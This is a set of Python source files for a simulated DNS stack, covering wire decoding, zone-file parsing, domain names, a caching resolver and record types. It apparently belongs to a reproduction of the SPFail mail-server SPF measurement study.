    mid, flags, qdcount, ancount, nscount, arcount = _HEADER.unpack(dec.read(_HEADER.size))
    msg = Message(
        id=mid,
        opcode=Opcode((flags >> 11) & 0xF),
        rcode=Rcode(flags & 0xF),
        is_response=bool(flags & _FLAG_QR),
        authoritative=bool(flags & _FLAG_AA),
        recursion_desired=bool(flags & _FLAG_RD),
    )
    msg.recursion_available = bool(flags & _FLAG_RA)
    if qdcount > 1:
        raise WireFormatError("multi-question messages not supported")
    if qdcount:
        msg.question = dec.read_question()
    msg.answers = [dec.read_rr() for _ in range(ancount)]
    msg.authority = [dec.read_rr() for _ in range(nscount)]
    msg.additional = [dec.read_rr() for _ in range(arcount)]
    return msg
