"""RFC 1035 master-file (zone file) parsing.

Lets zones be authored as standard zone-file text instead of API calls —
the format every real authoritative server is configured with::

    $ORIGIN example.com.
    $TTL 300
    @        IN  SOA  ns1 hostmaster 1 3600 900 604800 300
    @        IN  MX   10 mail
    @        IN  TXT  "v=spf1 a:mail.example.com -all"
    mail     IN  A    192.0.2.25
    www      IN  CNAME mail

Supported: ``$ORIGIN``/``$TTL`` directives, ``@`` for the origin, blank
owner continuation (reuse the previous owner), comments (``;``), quoted
TXT strings (multiple per record), and the record types the substrate
models (A, AAAA, MX, NS, TXT, CNAME, PTR, SOA).
"""

from __future__ import annotations

import shlex
from typing import List, Optional, Tuple

from ..errors import DnsError
from .name import Name
from .rdata import A, AAAA, CNAME, MX, NS, PTR, Rdata, SOA, TXT
from .zone import Zone

_TYPES = {"A", "AAAA", "MX", "NS", "TXT", "CNAME", "PTR", "SOA"}


def _split_line(line: str) -> List[str]:
    """Tokenize one zone-file line, honoring quotes and ; comments."""
    lexer = shlex.shlex(line, posix=True)
    lexer.whitespace_split = True
    lexer.commenters = ";"
    return list(lexer)


def _parse_rdata(rrtype: str, fields: List[str], origin: Name) -> Rdata:
    def absolute(text: str) -> Name:
        if text == "@":
            return origin
        if text.endswith("."):
            return Name.from_text(text)
        return Name.from_text(text).concatenate(origin)

    if rrtype == "A":
        return A(fields[0])
    if rrtype == "AAAA":
        return AAAA(fields[0])
    if rrtype == "TXT":
        if not fields:
            raise DnsError("TXT record needs at least one string")
        return TXT(list(fields))
    if rrtype == "MX":
        if len(fields) != 2:
            raise DnsError(f"MX needs preference and exchange, got {fields}")
        return MX(int(fields[0]), absolute(fields[1]))
    if rrtype == "NS":
        return NS(absolute(fields[0]))
    if rrtype == "CNAME":
        return CNAME(absolute(fields[0]))
    if rrtype == "PTR":
        return PTR(absolute(fields[0]))
    if rrtype == "SOA":
        if len(fields) != 7:
            raise DnsError(f"SOA needs 7 fields, got {len(fields)}")
        return SOA(
            absolute(fields[0]),
            absolute(fields[1]),
            *(int(value) for value in fields[2:]),
        )
    raise DnsError(f"unsupported record type {rrtype!r}")


def parse_zone_file(text: str, *, origin: Optional[str] = None) -> Zone:
    """Parse master-file text into a :class:`~repro.dns.zone.Zone`.

    ``origin`` seeds the zone origin if the file has no ``$ORIGIN``
    directive before its first record.
    """
    zone: Optional[Zone] = None
    current_origin: Optional[Name] = Name.from_text(origin) if origin else None
    default_ttl = 300
    previous_owner: Optional[Name] = None

    for line_number, raw in enumerate(text.splitlines(), start=1):
        had_leading_space = raw[:1] in (" ", "\t")
        try:
            tokens = _split_line(raw)
        except ValueError as exc:
            raise DnsError(f"line {line_number}: {exc}") from exc
        if not tokens:
            continue

        if tokens[0] == "$ORIGIN":
            current_origin = Name.from_text(tokens[1])
            previous_owner = None
            continue
        if tokens[0] == "$TTL":
            default_ttl = int(tokens[1])
            continue
        if current_origin is None:
            raise DnsError(f"line {line_number}: no $ORIGIN in effect")
        if zone is None:
            zone = Zone(current_origin, default_ttl=default_ttl)

        # Owner field: blank (continuation), @, relative, or absolute.
        if had_leading_space:
            if previous_owner is None:
                raise DnsError(f"line {line_number}: continuation with no prior owner")
            owner = previous_owner
        else:
            owner_text = tokens.pop(0)
            if owner_text == "@":
                owner = current_origin
            elif owner_text.endswith("."):
                owner = Name.from_text(owner_text)
            else:
                owner = Name.from_text(owner_text).concatenate(current_origin)
            previous_owner = owner

        # Optional TTL and class before the type.
        ttl = default_ttl
        while tokens and tokens[0] not in _TYPES:
            token = tokens.pop(0)
            if token.isdigit():
                ttl = int(token)
            elif token.upper() == "IN":
                continue
            else:
                raise DnsError(f"line {line_number}: unexpected token {token!r}")
        if not tokens:
            raise DnsError(f"line {line_number}: missing record type")

        rrtype = tokens.pop(0).upper()
        rdata = _parse_rdata(rrtype, tokens, current_origin)
        if rrtype == "SOA":
            zone.remove(current_origin, rdata.rrtype)  # replace synthetic SOA
        zone.add(owner, rdata, ttl=ttl)

    if zone is None:
        raise DnsError("zone file contained no records")
    return zone
