"""DNS domain names.

A :class:`Name` is an immutable sequence of labels, stored without the
trailing root label.  Comparisons are case-insensitive, as required by
RFC 1035 section 2.3.3, but the original spelling is preserved for
presentation.

The SPFail detection technique manipulates names heavily (label reversal,
truncation, prepending), so :class:`Name` offers convenience operations for
those transformations.
"""

from __future__ import annotations

from typing import Dict, Iterable, Iterator, Tuple, Union

from ..errors import NameError_

MAX_LABEL_LENGTH = 63
MAX_NAME_LENGTH = 253  # presentation form, excluding trailing dot


def _validate_label(label: str) -> None:
    if not label:
        raise NameError_("empty label in domain name")
    if len(label) > MAX_LABEL_LENGTH:
        raise NameError_(f"label too long ({len(label)} > {MAX_LABEL_LENGTH}): {label!r}")


class Name:
    """An immutable DNS domain name.

    >>> n = Name.from_text("Mail.Example.COM")
    >>> n == Name.from_text("mail.example.com")
    True
    >>> n.labels
    ('Mail', 'Example', 'COM')
    >>> str(n)
    'Mail.Example.COM'
    """

    __slots__ = ("_labels", "_key", "_hash")

    # Bounded memo tables for the two hot construction paths.  Both are
    # cleared wholesale when full: probe names are unique by design, so an
    # LRU would churn without helping, while the fleet's repeated zone and
    # MTA names re-warm within one stage.
    _MEMO_CAP = 65536
    _FROM_TEXT: Dict[str, "Name"] = {}
    # Interning is keyed by the *spelled* labels, not the lowercase key —
    # case variants must stay distinct objects so str() round-trips.
    _INTERNED: Dict[Tuple[str, ...], "Name"] = {}

    def __init__(self, labels: Iterable[str]) -> None:
        labels = tuple(labels)
        for label in labels:
            if not label or len(label) > MAX_LABEL_LENGTH:
                _validate_label(label)
        joined = ".".join(labels)
        if len(joined) > MAX_NAME_LENGTH:
            raise NameError_(f"name too long ({len(joined)} > {MAX_NAME_LENGTH})")
        self._labels: Tuple[str, ...] = labels
        # Names are overwhelmingly lowercase already; alias the labels
        # tuple as the key instead of building a second tuple.
        if joined.lower() == joined:
            self._key: Tuple[str, ...] = labels
        else:
            self._key = tuple(l.lower() for l in labels)
        self._hash = None

    @classmethod
    def _make(cls, labels: Tuple[str, ...], key: Tuple[str, ...]) -> "Name":
        """Unchecked constructor for names derived from validated ones.

        Callers must pass label/key tuples sliced or reordered from an
        existing Name, so per-label validation and the length check can
        be skipped.
        """
        self = object.__new__(cls)
        self._labels = labels
        self._key = key
        self._hash = None
        return self

    def intern(self) -> "Name":
        """The canonical instance for this spelling.

        Interned names share one object per labels tuple, so hashing and
        equality hit the identity fast path.  Safe because Name is
        immutable; bounded by :data:`_MEMO_CAP`.
        """
        table = Name._INTERNED
        canon = table.get(self._labels)
        if canon is None:
            if len(table) >= Name._MEMO_CAP:
                table.clear()
            table[self._labels] = canon = self
        return canon

    @classmethod
    def root(cls) -> "Name":
        """The root name (zero labels)."""
        return cls(())

    @classmethod
    def from_text(cls, text: str) -> "Name":
        """Parse a presentation-format name. A single ``.`` is the root."""
        memo = cls._FROM_TEXT
        cached = memo.get(text)
        if cached is not None:
            return cached
        stripped = text.rstrip(".")
        name = (cls(()) if stripped == "" else cls(stripped.split("."))).intern()
        if len(memo) >= cls._MEMO_CAP:
            memo.clear()
        memo[text] = name
        return name

    # -- basic protocol ---------------------------------------------------

    @property
    def labels(self) -> Tuple[str, ...]:
        return self._labels

    @property
    def key(self) -> Tuple[str, ...]:
        """The lowercase label tuple used for comparisons and dict keys."""
        return self._key

    def __str__(self) -> str:
        return ".".join(self._labels) if self._labels else "."

    def __repr__(self) -> str:
        return f"Name({str(self)!r})"

    def __eq__(self, other: object) -> bool:
        if self is other:
            return True
        if isinstance(other, Name):
            return self._key == other._key
        return NotImplemented

    def __hash__(self) -> int:
        h = self._hash
        if h is None:
            h = self._hash = hash(self._key)
        return h

    def __len__(self) -> int:
        return len(self._labels)

    def __iter__(self) -> Iterator[str]:
        return iter(self._labels)

    def __lt__(self, other: "Name") -> bool:
        # Canonical DNS ordering: compare label sequences from the rightmost
        # (most significant) label, case-insensitively.
        return tuple(reversed(self._key)) < tuple(reversed(other._key))

    # -- structure --------------------------------------------------------

    def is_root(self) -> bool:
        return not self._labels

    def parent(self) -> "Name":
        """The name with the leftmost label removed."""
        if not self._labels:
            raise NameError_("the root name has no parent")
        return Name._make(self._labels[1:], self._key[1:])

    def tld(self) -> str:
        """The rightmost label, lowercase ('' for the root)."""
        return self._key[-1] if self._key else ""

    def is_subdomain_of(self, other: "Name") -> bool:
        """True if ``self`` equals ``other`` or sits beneath it."""
        if len(other._key) > len(self._key):
            return False
        if not other._key:
            return True
        return self._key[-len(other._key):] == other._key

    def relativize(self, origin: "Name") -> "Name":
        """Strip ``origin`` from the right-hand side of this name."""
        if not self.is_subdomain_of(origin):
            raise NameError_(f"{self} is not a subdomain of {origin}")
        n = len(self._labels) - len(origin._labels)
        return Name._make(self._labels[:n], self._key[:n])

    def concatenate(self, suffix: Union["Name", str]) -> "Name":
        """Append ``suffix``'s labels after this name's labels."""
        if isinstance(suffix, str):
            suffix = Name.from_text(suffix)
        return Name(self._labels + suffix._labels)

    def prepend(self, label: str) -> "Name":
        """Add one label at the left (hostname side)."""
        return Name((label,) + self._labels)

    # -- SPF-macro-flavored transformations --------------------------------

    def reversed_labels(self) -> "Name":
        """Labels in reverse order (the SPF ``r`` transformer)."""
        return Name._make(self._labels[::-1], self._key[::-1])

    def rightmost(self, count: int) -> "Name":
        """Keep only the rightmost ``count`` labels (SPF digit transformer)."""
        if count <= 0:
            raise NameError_("label count must be positive")
        if count >= len(self._labels):
            return self
        return Name._make(self._labels[-count:], self._key[-count:])
