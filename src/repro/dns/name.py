"""DNS domain names.

A :class:`Name` is an immutable sequence of labels, stored without the
trailing root label.  Comparisons are case-insensitive, as required by
RFC 1035 section 2.3.3, but the original spelling is preserved for
presentation.

The SPFail detection technique manipulates names heavily (label reversal,
truncation, prepending), so :class:`Name` offers convenience operations for
those transformations.
"""

from __future__ import annotations

from typing import Iterable, Iterator, Tuple, Union

from ..errors import NameError_

MAX_LABEL_LENGTH = 63
MAX_NAME_LENGTH = 253  # presentation form, excluding trailing dot


def _validate_label(label: str) -> None:
    if not label:
        raise NameError_("empty label in domain name")
    if len(label) > MAX_LABEL_LENGTH:
        raise NameError_(f"label too long ({len(label)} > {MAX_LABEL_LENGTH}): {label!r}")


class Name:
    """An immutable DNS domain name.

    >>> n = Name.from_text("Mail.Example.COM")
    >>> n == Name.from_text("mail.example.com")
    True
    >>> n.labels
    ('Mail', 'Example', 'COM')
    >>> str(n)
    'Mail.Example.COM'
    """

    __slots__ = ("_labels", "_key")

    def __init__(self, labels: Iterable[str]) -> None:
        labels = tuple(labels)
        for label in labels:
            _validate_label(label)
        joined = ".".join(labels)
        if len(joined) > MAX_NAME_LENGTH:
            raise NameError_(f"name too long ({len(joined)} > {MAX_NAME_LENGTH})")
        self._labels: Tuple[str, ...] = labels
        self._key: Tuple[str, ...] = tuple(l.lower() for l in labels)

    @classmethod
    def root(cls) -> "Name":
        """The root name (zero labels)."""
        return cls(())

    @classmethod
    def from_text(cls, text: str) -> "Name":
        """Parse a presentation-format name. A single ``.`` is the root."""
        text = text.rstrip(".")
        if text == "":
            return cls.root()
        return cls(text.split("."))

    # -- basic protocol ---------------------------------------------------

    @property
    def labels(self) -> Tuple[str, ...]:
        return self._labels

    @property
    def key(self) -> Tuple[str, ...]:
        """The lowercase label tuple used for comparisons and dict keys."""
        return self._key

    def __str__(self) -> str:
        return ".".join(self._labels) if self._labels else "."

    def __repr__(self) -> str:
        return f"Name({str(self)!r})"

    def __eq__(self, other: object) -> bool:
        if isinstance(other, Name):
            return self._key == other._key
        return NotImplemented

    def __hash__(self) -> int:
        return hash(self._key)

    def __len__(self) -> int:
        return len(self._labels)

    def __iter__(self) -> Iterator[str]:
        return iter(self._labels)

    def __lt__(self, other: "Name") -> bool:
        # Canonical DNS ordering: compare label sequences from the rightmost
        # (most significant) label, case-insensitively.
        return tuple(reversed(self._key)) < tuple(reversed(other._key))

    # -- structure --------------------------------------------------------

    def is_root(self) -> bool:
        return not self._labels

    def parent(self) -> "Name":
        """The name with the leftmost label removed."""
        if not self._labels:
            raise NameError_("the root name has no parent")
        return Name(self._labels[1:])

    def tld(self) -> str:
        """The rightmost label, lowercase ('' for the root)."""
        return self._key[-1] if self._key else ""

    def is_subdomain_of(self, other: "Name") -> bool:
        """True if ``self`` equals ``other`` or sits beneath it."""
        if len(other._key) > len(self._key):
            return False
        if not other._key:
            return True
        return self._key[-len(other._key):] == other._key

    def relativize(self, origin: "Name") -> "Name":
        """Strip ``origin`` from the right-hand side of this name."""
        if not self.is_subdomain_of(origin):
            raise NameError_(f"{self} is not a subdomain of {origin}")
        n = len(self._labels) - len(origin._labels)
        return Name(self._labels[:n])

    def concatenate(self, suffix: Union["Name", str]) -> "Name":
        """Append ``suffix``'s labels after this name's labels."""
        if isinstance(suffix, str):
            suffix = Name.from_text(suffix)
        return Name(self._labels + suffix._labels)

    def prepend(self, label: str) -> "Name":
        """Add one label at the left (hostname side)."""
        return Name((label,) + self._labels)

    # -- SPF-macro-flavored transformations --------------------------------

    def reversed_labels(self) -> "Name":
        """Labels in reverse order (the SPF ``r`` transformer)."""
        return Name(tuple(reversed(self._labels)))

    def rightmost(self, count: int) -> "Name":
        """Keep only the rightmost ``count`` labels (SPF digit transformer)."""
        if count <= 0:
            raise NameError_("label count must be positive")
        return Name(self._labels[-count:]) if count < len(self._labels) else self
