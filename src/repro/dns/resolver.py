"""DNS resolution for simulated hosts.

:class:`CachingResolver` plays the role of a recursive resolver: it routes
queries to the authoritative backend responsible for the longest matching
zone suffix and caches both positive and negative answers by TTL.

:class:`StubResolver` is the host-facing API used by simulated MTAs (and
the SPF evaluator): typed convenience lookups over a caching resolver.

The paper's unique per-test labels exist precisely to defeat this caching
layer — every probe's names are new, so every SPF-triggered query reaches
the measurement server.  The cache is modeled so tests can demonstrate
that property.
"""

from __future__ import annotations

import datetime as _dt
import ipaddress
from dataclasses import dataclass, replace as _dc_replace
from typing import Callable, Dict, List, Optional, Tuple, Union

from ..errors import ResolutionError
from ..obs import context as _obs
from .message import Message, Rcode
from .name import Name
from .rdata import MX, RRType, ResourceRecord, SOA, TXT
from .server import DnsBackend

ClockFn = Callable[[], _dt.datetime]


def _default_clock() -> _dt.datetime:
    return _dt.datetime.now(tz=_dt.timezone.utc)


@dataclass
class _CacheEntry:
    inserted: _dt.datetime
    expires: _dt.datetime
    rcode: Rcode
    records: List[ResourceRecord]
    authority: List[ResourceRecord]

    def replay(self, now: _dt.datetime) -> Tuple[List[ResourceRecord], List[ResourceRecord]]:
        """The cached sections with TTLs decayed by the elapsed time.

        RFC 1035 section 3.2.1: TTL counts down while a record sits in a
        cache, so a replayed record carries only its *remaining* lifetime,
        never the original one.  Whole seconds only — the simulation's
        clock, like real resolvers, tracks TTLs at second granularity.
        """
        elapsed = int((now - self.inserted).total_seconds())
        if elapsed <= 0:
            return list(self.records), list(self.authority)
        decay = lambda rr: _dc_replace(rr, ttl=max(0, rr.ttl - elapsed))
        return [decay(rr) for rr in self.records], [decay(rr) for rr in self.authority]


class CachingResolver(DnsBackend):
    """A recursive resolver with positive and negative caching."""

    NEGATIVE_TTL = 300

    def __init__(self, clock: Optional[ClockFn] = None) -> None:
        self._backends: Dict[tuple, DnsBackend] = {}
        self._cache: Dict[Tuple[tuple, RRType], _CacheEntry] = {}
        self._clock = clock or _default_clock
        self.query_count = 0
        self.cache_hits = 0
        # (obs, queries_counter, hits_counter) — refreshed whenever the
        # active observability context changes identity, so the hot path
        # skips two registry lookups per query.
        self._counters: Optional[tuple] = None

    def register(self, suffix: Union[str, Name], backend: DnsBackend) -> None:
        """Delegate all names under ``suffix`` to ``backend``."""
        name = suffix if isinstance(suffix, Name) else Name.from_text(suffix)
        self._backends[name.key] = backend

    def _backend_for(self, name: Name) -> Optional[DnsBackend]:
        # Longest-match by walking the qname's suffixes from longest to
        # shortest: one dict probe per label instead of a linear scan over
        # every registered zone (the root key ``()`` matches last).
        backends = self._backends
        key = name.key
        for i in range(len(key) + 1):
            backend = backends.get(key[i:])
            if backend is not None:
                return backend
        return None

    def query(self, message: Message, *, source: str = "", now: Optional[_dt.datetime] = None) -> Message:
        if message.question is None:
            return message.make_response(Rcode.FORMERR)
        qname, rrtype = message.question.name, message.question.rrtype
        timestamp = now if now is not None else self._clock()
        self.query_count += 1
        obs = _obs.ACTIVE
        cc = None
        if obs is not None:
            cc = self._counters
            if cc is None or cc[0] is not obs:
                self._counters = cc = (
                    obs,
                    obs.metrics.counter("dns.resolver.queries"),
                    obs.metrics.counter("dns.resolver.cache_hits"),
                )
            cc[1].inc(rrtype.name)

        cache_key = (qname.key, rrtype)
        entry = self._cache.get(cache_key)
        if entry is not None and entry.expires > timestamp:
            self.cache_hits += 1
            if cc is not None:
                cc[2].inc(rrtype.name)
            response = message.make_response(entry.rcode)
            response.recursion_available = True
            response.answers, response.authority = entry.replay(timestamp)
            return response

        backend = self._backend_for(qname)
        if backend is None:
            response = message.make_response(Rcode.SERVFAIL)
            response.recursion_available = True
            return response

        upstream = backend.query(message, source=source, now=timestamp)
        ttl = self._cache_ttl(upstream)
        if ttl > 0:
            self._cache[cache_key] = _CacheEntry(
                inserted=timestamp,
                expires=timestamp + _dt.timedelta(seconds=ttl),
                rcode=upstream.rcode,
                records=list(upstream.answers),
                authority=list(upstream.authority),
            )
        # The cache keeps its own copies above, and backends build a fresh
        # response per query, so the upstream message can be returned
        # directly with its flags adjusted to this resolver's view: a
        # recursive answer is never authoritative and offers recursion.
        upstream.authoritative = False
        upstream.recursion_available = True
        return upstream

    def _cache_ttl(self, upstream: Message) -> int:
        """How long ``upstream`` may be cached, in seconds.

        Positive answers use the smallest answer TTL.  Negative answers
        (NXDOMAIN/NODATA) use the RFC 2308 rule: the minimum of the SOA
        record's own TTL and its ``minimum`` field when the authority
        section carries one, else :data:`NEGATIVE_TTL`.  Only NOERROR and
        NXDOMAIN responses are cacheable (RFC 2308 section 7) — SERVFAIL
        and other failures signal transient conditions and pass through
        uncached so recovery is visible on the very next query.
        """
        if upstream.rcode not in (Rcode.NOERROR, Rcode.NXDOMAIN):
            return 0
        if upstream.answers:
            return min(rr.ttl for rr in upstream.answers)
        for rr in upstream.authority:
            if isinstance(rr.rdata, SOA):
                return min(rr.ttl, rr.rdata.minimum)
        return self.NEGATIVE_TTL

    def flush(self) -> None:
        self._cache.clear()

    def perf_counters(self) -> Dict[str, int]:
        """Read-only cache telemetry (repro.obs.perf counter surface)."""
        return {
            "dns.resolver.queries": self.query_count,
            "dns.resolver.cache_hits": self.cache_hits,
        }


class StubResolver:
    """Typed lookups for a simulated host.

    ``identity`` is carried as the query source so that the measurement
    server's log can attribute queries to the MTA performing SPF
    validation (in the real Internet, to its recursive resolver).
    """

    def __init__(self, upstream: DnsBackend, *, identity: str = "", clock: Optional[ClockFn] = None) -> None:
        self.upstream = upstream
        self.identity = identity
        self._clock = clock or _default_clock
        self._next_id = 1

    def _query(self, name: Union[str, Name], rrtype: RRType) -> Message:
        qname = name if isinstance(name, Name) else Name.from_text(name)
        message = Message.make_query(qname, rrtype, id=self._next_id)
        self._next_id = (self._next_id + 1) & 0xFFFF or 1
        return self.upstream.query(message, source=self.identity, now=self._clock())

    def resolve(self, name: Union[str, Name], rrtype: RRType) -> List[ResourceRecord]:
        """Resolve, returning the answer records (possibly empty).

        Raises :class:`ResolutionError` on SERVFAIL/REFUSED; NXDOMAIN and
        NODATA both return an empty list, mirroring what an SPF
        implementation treats as "no useful answer".
        """
        response = self._query(name, rrtype)
        if response.rcode in (Rcode.SERVFAIL, Rcode.REFUSED, Rcode.FORMERR, Rcode.NOTIMP):
            raise ResolutionError(f"{name}/{rrtype.name}: {response.rcode.name}")
        return [rr for rr in response.answers if rr.rrtype == rrtype]

    def get_txt(self, name: Union[str, Name]) -> List[str]:
        """TXT strings at ``name``, each record's strings concatenated."""
        out = []
        for rr in self.resolve(name, RRType.TXT):
            assert isinstance(rr.rdata, TXT)
            out.append(rr.rdata.text)
        return out

    def get_mx(self, name: Union[str, Name]) -> List[Tuple[int, Name]]:
        """(preference, exchange) pairs sorted by preference."""
        out = []
        for rr in self.resolve(name, RRType.MX):
            assert isinstance(rr.rdata, MX)
            out.append((rr.rdata.preference, rr.rdata.exchange))
        return sorted(out, key=lambda pair: pair[0])

    def get_addresses(
        self, name: Union[str, Name], *, want_ipv6: bool = True
    ) -> List[Union[ipaddress.IPv4Address, ipaddress.IPv6Address]]:
        """All A (and optionally AAAA) addresses for ``name``."""
        addresses: List[Union[ipaddress.IPv4Address, ipaddress.IPv6Address]] = []
        for rr in self.resolve(name, RRType.A):
            addresses.append(rr.rdata.address)  # type: ignore[union-attr]
        if want_ipv6:
            for rr in self.resolve(name, RRType.AAAA):
                addresses.append(rr.rdata.address)  # type: ignore[union-attr]
        return addresses
