"""DNS record data types.

Implements the record types the SPFail measurement touches: A and AAAA
(address lookups triggered by SPF mechanisms), TXT (SPF policies), MX
(mail-server discovery), plus NS/SOA/CNAME/PTR for zone plumbing.

Each rdata type knows how to render itself in presentation format and how
to encode/decode its wire form (used by :mod:`repro.dns.wire`).
"""

from __future__ import annotations

import enum
import ipaddress
import struct
from dataclasses import dataclass, field
from typing import List, Tuple, Type, Union

from .. import ipmemo
from ..errors import WireFormatError
from .name import Name


class RRType(enum.IntEnum):
    """Resource record types (RFC 1035 / 3596)."""

    A = 1
    NS = 2
    CNAME = 5
    SOA = 6
    PTR = 12
    MX = 15
    TXT = 16
    AAAA = 28
    ANY = 255


class RClass(enum.IntEnum):
    """Resource record classes."""

    IN = 1
    ANY = 255


class Rdata:
    """Base class for record data."""

    rrtype: RRType

    def to_text(self) -> str:
        raise NotImplementedError

    def to_wire(self) -> bytes:
        raise NotImplementedError

    @classmethod
    def from_wire(cls, data: bytes) -> "Rdata":
        raise NotImplementedError

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.to_text()!r})"

    def __eq__(self, other: object) -> bool:
        if isinstance(other, Rdata):
            return (self.rrtype, self.to_wire()) == (other.rrtype, other.to_wire())
        return NotImplemented

    def __hash__(self) -> int:
        return hash((self.rrtype, self.to_wire()))


class A(Rdata):
    """An IPv4 address record."""

    rrtype = RRType.A

    def __init__(self, address: Union[str, ipaddress.IPv4Address]) -> None:
        if isinstance(address, ipaddress.IPv4Address):
            self.address = address
        elif isinstance(address, str):
            addr = ipmemo.ip_address(address)
            if not isinstance(addr, ipaddress.IPv4Address):
                raise ipaddress.AddressValueError(f"not an IPv4 address: {address!r}")
            self.address = addr
        else:
            self.address = ipaddress.IPv4Address(address)

    def to_text(self) -> str:
        return str(self.address)

    def to_wire(self) -> bytes:
        return self.address.packed

    @classmethod
    def from_wire(cls, data: bytes) -> "A":
        if len(data) != 4:
            raise WireFormatError(f"A rdata must be 4 bytes, got {len(data)}")
        return cls(ipaddress.IPv4Address(data))


class AAAA(Rdata):
    """An IPv6 address record."""

    rrtype = RRType.AAAA

    def __init__(self, address: Union[str, ipaddress.IPv6Address]) -> None:
        if isinstance(address, ipaddress.IPv6Address):
            self.address = address
        elif isinstance(address, str):
            addr = ipmemo.ip_address(address)
            if not isinstance(addr, ipaddress.IPv6Address):
                raise ipaddress.AddressValueError(f"not an IPv6 address: {address!r}")
            self.address = addr
        else:
            self.address = ipaddress.IPv6Address(address)

    def to_text(self) -> str:
        return str(self.address)

    def to_wire(self) -> bytes:
        return self.address.packed

    @classmethod
    def from_wire(cls, data: bytes) -> "AAAA":
        if len(data) != 16:
            raise WireFormatError(f"AAAA rdata must be 16 bytes, got {len(data)}")
        return cls(ipaddress.IPv6Address(data))


class TXT(Rdata):
    """A text record: one or more character-strings of up to 255 bytes.

    SPF policies are published as TXT records; a policy longer than 255
    bytes is split across multiple strings which the consumer concatenates
    (RFC 7208 section 3.3).
    """

    rrtype = RRType.TXT

    def __init__(self, strings: Union[str, bytes, List[Union[str, bytes]]]) -> None:
        if isinstance(strings, (str, bytes)):
            strings = [strings]
        encoded: List[bytes] = []
        for s in strings:
            b = s.encode("ascii", errors="replace") if isinstance(s, str) else bytes(s)
            if len(b) > 255:
                # Split automatically, as publishing tools do.
                encoded.extend(b[i : i + 255] for i in range(0, len(b), 255))
            else:
                encoded.append(b)
        self.strings: Tuple[bytes, ...] = tuple(encoded)

    @property
    def text(self) -> str:
        """All character-strings concatenated and decoded."""
        return b"".join(self.strings).decode("ascii", errors="replace")

    def to_text(self) -> str:
        return " ".join(
            '"' + s.decode("ascii", errors="replace").replace('"', '\\"') + '"'
            for s in self.strings
        )

    def to_wire(self) -> bytes:
        out = bytearray()
        for s in self.strings:
            out.append(len(s))
            out.extend(s)
        return bytes(out)

    @classmethod
    def from_wire(cls, data: bytes) -> "TXT":
        strings: List[bytes] = []
        i = 0
        while i < len(data):
            n = data[i]
            i += 1
            if i + n > len(data):
                raise WireFormatError("TXT character-string overruns rdata")
            strings.append(data[i : i + n])
            i += n
        return cls(list(strings))


class _NameRdata(Rdata):
    """Shared implementation for rdata that is a single domain name."""

    def __init__(self, target: Union[str, Name]) -> None:
        self.target = target if isinstance(target, Name) else Name.from_text(target)

    def to_text(self) -> str:
        return str(self.target) + "."

    def to_wire(self) -> bytes:
        # Uncompressed name encoding (compression handled at message level
        # only for owner names; rdata names are stored uncompressed here).
        out = bytearray()
        for label in self.target.labels:
            raw = label.encode("ascii", errors="replace")
            out.append(len(raw))
            out.extend(raw)
        out.append(0)
        return bytes(out)

    @classmethod
    def from_wire(cls, data: bytes):
        labels: List[str] = []
        i = 0
        while i < len(data):
            n = data[i]
            i += 1
            if n == 0:
                break
            if i + n > len(data):
                raise WireFormatError("name label overruns rdata")
            labels.append(data[i : i + n].decode("ascii", errors="replace"))
            i += n
        return cls(Name(labels))


class NS(_NameRdata):
    """A delegation record."""

    rrtype = RRType.NS


class CNAME(_NameRdata):
    """A canonical-name alias record."""

    rrtype = RRType.CNAME


class PTR(_NameRdata):
    """A pointer record (reverse DNS)."""

    rrtype = RRType.PTR


class MX(Rdata):
    """A mail-exchanger record: preference plus exchange host."""

    rrtype = RRType.MX

    def __init__(self, preference: int, exchange: Union[str, Name]) -> None:
        if not 0 <= preference <= 0xFFFF:
            raise WireFormatError(f"MX preference out of range: {preference}")
        self.preference = preference
        self.exchange = exchange if isinstance(exchange, Name) else Name.from_text(exchange)

    def to_text(self) -> str:
        return f"{self.preference} {self.exchange}."

    def to_wire(self) -> bytes:
        return struct.pack("!H", self.preference) + _NameRdata(self.exchange).to_wire()

    @classmethod
    def from_wire(cls, data: bytes) -> "MX":
        if len(data) < 3:
            raise WireFormatError("MX rdata too short")
        (pref,) = struct.unpack("!H", data[:2])
        name_rdata = _NameRdata.from_wire(data[2:])
        return cls(pref, name_rdata.target)


class SOA(Rdata):
    """A start-of-authority record."""

    rrtype = RRType.SOA

    def __init__(
        self,
        mname: Union[str, Name],
        rname: Union[str, Name],
        serial: int = 1,
        refresh: int = 3600,
        retry: int = 900,
        expire: int = 604800,
        minimum: int = 300,
    ) -> None:
        self.mname = mname if isinstance(mname, Name) else Name.from_text(mname)
        self.rname = rname if isinstance(rname, Name) else Name.from_text(rname)
        self.serial = serial
        self.refresh = refresh
        self.retry = retry
        self.expire = expire
        self.minimum = minimum

    def to_text(self) -> str:
        return (
            f"{self.mname}. {self.rname}. {self.serial} {self.refresh} "
            f"{self.retry} {self.expire} {self.minimum}"
        )

    def to_wire(self) -> bytes:
        return (
            _NameRdata(self.mname).to_wire()
            + _NameRdata(self.rname).to_wire()
            + struct.pack(
                "!IIIII", self.serial, self.refresh, self.retry, self.expire, self.minimum
            )
        )

    @classmethod
    def from_wire(cls, data: bytes) -> "SOA":
        # Names in our wire encoding are uncompressed; find their ends.
        def read_name(offset: int) -> Tuple[Name, int]:
            labels: List[str] = []
            i = offset
            while True:
                if i >= len(data):
                    raise WireFormatError("SOA name overruns rdata")
                n = data[i]
                i += 1
                if n == 0:
                    return Name(labels), i
                labels.append(data[i : i + n].decode("ascii", errors="replace"))
                i += n

        mname, i = read_name(0)
        rname, i = read_name(i)
        if len(data) - i != 20:
            raise WireFormatError("SOA fixed fields malformed")
        serial, refresh, retry, expire, minimum = struct.unpack("!IIIII", data[i:])
        return cls(mname, rname, serial, refresh, retry, expire, minimum)


RDATA_CLASSES: dict = {
    RRType.A: A,
    RRType.AAAA: AAAA,
    RRType.TXT: TXT,
    RRType.MX: MX,
    RRType.NS: NS,
    RRType.CNAME: CNAME,
    RRType.PTR: PTR,
    RRType.SOA: SOA,
}


def rdata_class_for(rrtype: RRType) -> Type[Rdata]:
    """Look up the rdata class for a record type."""
    try:
        return RDATA_CLASSES[rrtype]
    except KeyError:
        raise WireFormatError(f"unsupported rdata type: {rrtype!r}") from None


@dataclass(frozen=True)
class ResourceRecord:
    """A complete resource record: owner name, TTL, class, and rdata."""

    name: Name
    rdata: Rdata
    ttl: int = 300
    rclass: RClass = RClass.IN

    @property
    def rrtype(self) -> RRType:
        return self.rdata.rrtype

    def to_text(self) -> str:
        return f"{self.name}. {self.ttl} {self.rclass.name} {self.rrtype.name} {self.rdata.to_text()}"
